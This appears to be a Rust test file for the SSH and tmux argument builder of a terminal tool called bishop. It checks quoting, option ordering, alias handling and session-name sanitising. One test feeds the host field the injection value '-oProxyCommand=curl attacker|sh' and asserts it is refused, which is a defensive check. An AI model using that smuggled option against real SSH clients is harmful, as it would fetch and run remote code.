use bishop::terminal::{exit_code_payload, pty_dim, sanitize_tmux_session, TerminalTarget};

fn target() -> TerminalTarget {
    TerminalTarget {
        local: false,
        shell: None,
        alias: None,
        user: Some("deploy".to_string()),
        host: Some("example.com".to_string()),
        port: None,
        identity: None,
        proxy_jump: None,
        initial_cwd: None,
        use_tmux: false,
        tmux_session: None,
    }
}

fn strs(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| s.to_string()).collect()
}

#[test]
fn plain_user_host() {
    let (args, label) = target().to_ssh_args().unwrap();
    assert_eq!(args, strs(&["-tt", "-o", "ServerAliveInterval=30", "--", "deploy@example.com", "exec $SHELL -l"]));
    assert_eq!(label, "deploy@example.com");
}

#[test]
fn options_cwd_and_alias() {
    let mut t = target();
    t.port = Some(2222);
    t.identity = Some("~/.ssh/id_ed25519".to_string());
    t.proxy_jump = Some("me@bastion".to_string());
    t.initial_cwd = Some("/srv/it's".to_string());
    let (args, _) = t.to_ssh_args().unwrap();
    assert_eq!(
        args,
        strs(&[
            "-tt", "-o", "ServerAliveInterval=30", "-p", "2222", "-i", "~/.ssh/id_ed25519", "-J", "me@bastion", "--",
            "deploy@example.com", "cd '/srv/it'\\''s' 2>/dev/null; exec $SHELL -l",
        ])
    );
    t.alias = Some("prod".to_string());
    let (args, label) = t.to_ssh_args().unwrap();
    // with an alias, ~/.ssh/config owns port, key, jump host and user
    assert_eq!(
        args,
        strs(&["-tt", "-o", "ServerAliveInterval=30", "--", "prod", "cd '/srv/it'\\''s' 2>/dev/null; exec $SHELL -l"])
    );
    assert_eq!(label, "prod");
    t.identity = Some("-x".to_string());
    t.proxy_jump = Some("-J".to_string());
    assert!(t.to_ssh_args().is_ok());
}

#[test]
fn exec_args_without_tty() {
    let mut t = target();
    t.port = Some(22);
    assert_eq!(
        t.to_exec_args("cat > /tmp/x").unwrap(),
        strs(&["-o", "ServerAliveInterval=30", "-p", "22", "--", "deploy@example.com", "cat > /tmp/x"])
    );
    let mut t = target();
    t.alias = Some("prod".to_string());
    assert_eq!(t.to_exec_args("true").unwrap(), strs(&["-o", "ServerAliveInterval=30", "--", "prod", "true"]));
    let mut t = target();
    t.host = None;
    assert_eq!(t.to_exec_args("true").unwrap_err(), "host or alias required");
}

#[test]
fn tmux_wrapper() {
    let mut t = target();
    t.use_tmux = true;
    t.tmux_session = Some("my:sess.1".to_string());
    let (args, _) = t.to_ssh_args().unwrap();
    assert_eq!(
        args.last().unwrap(),
        "if command -v tmux >/dev/null 2>&1; then tmux new-session -A -s 'my_sess_1' 2>/dev/null || tmux attach -t 'my_sess_1'; else echo; echo '[bishop] tmux is not installed on this host \u{2014} starting a regular shell.'; echo; exec $SHELL -l; fi"
    );
}

#[test]
fn option_like_values_are_refused() {
    let mut t = target();
    t.host = Some("-oProxyCommand=curl attacker|sh".to_string());
    assert_eq!(t.to_ssh_args().unwrap_err(), "host must not start with '-' (got \"-oProxyCommand=curl attacker|sh\")");
    let mut t = target();
    t.identity = Some("-x".to_string());
    assert_eq!(t.to_ssh_args().unwrap_err(), "identity must not start with '-' (got \"-x\")");
    let mut t = target();
    t.proxy_jump = Some("-J".to_string());
    assert_eq!(t.to_ssh_args().unwrap_err(), "proxy_jump must not start with '-' (got \"-J\")");
    let mut t = target();
    t.alias = Some("-a".to_string());
    assert_eq!(t.to_ssh_args().unwrap_err(), "alias must not start with '-' (got \"-a\")");
    let mut t = target();
    t.user = Some("-u".to_string());
    assert_eq!(t.to_ssh_args().unwrap_err(), "user must not start with '-' (got \"-u\")");
}

#[test]
fn user_and_host_are_required_without_alias() {
    let mut t = target();
    t.user = None;
    assert_eq!(t.to_ssh_args().unwrap_err(), "user or alias required");
    let mut t = target();
    t.host = None;
    assert_eq!(t.to_ssh_args().unwrap_err(), "host or alias required");
}

#[test]
fn tmux_session_names() {
    assert_eq!(sanitize_tmux_session("my project.v2"), "my_project_v2");
    assert_eq!(sanitize_tmux_session("__a__"), "a");
    assert_eq!(sanitize_tmux_session("::"), "bishop");
    assert_eq!(sanitize_tmux_session(""), "bishop");
    assert_eq!(sanitize_tmux_session("ok-1_2"), "ok-1_2");
}

#[test]
fn local_terminal_settings() {
    let mut t = target();
    t.local = true;
    assert_eq!(t.local_shell(Some("/bin/zsh".to_string())), "/bin/zsh");
    assert_eq!(t.local_shell(None), "/bin/bash");
    t.shell = Some("/usr/bin/fish".to_string());
    assert_eq!(t.local_shell(Some("/bin/zsh".to_string())), "/usr/bin/fish");
    assert_eq!(pty_dim(0), 1);
    assert_eq!(pty_dim(80), 80);
    assert_eq!(exit_code_payload(Some(0)), 0);
    assert_eq!(exit_code_payload(Some(130)), 130);
    assert_eq!(exit_code_payload(Some(u32::MAX)), -1);
    assert_eq!(exit_code_payload(None), -1);
}
